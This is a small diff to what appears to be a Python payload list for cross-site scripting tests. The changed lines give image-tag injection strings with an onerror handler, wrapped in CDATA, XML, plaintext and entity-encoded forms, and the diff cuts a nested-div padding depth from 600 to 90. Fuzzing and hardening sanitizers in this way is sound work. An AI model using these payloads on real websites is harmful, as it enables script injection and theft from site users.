@@ -87,7 +87,7 @@ FAMILIES = {
         f"<![CDATA[<img src=x onerror={JS}>]]>",
         f'<?xml version="1.0"?><img src=x onerror={JS}>',
         f"<plaintext><img src=x onerror={JS}>",
-        "<div>" * 600 + f"<img src=x onerror={JS}>",
+        "<div>" * 90 + f"<img src=x onerror={JS}>",
     ],
     "encodings": [
         f"&lt;img src=x onerror={JS}&gt;",
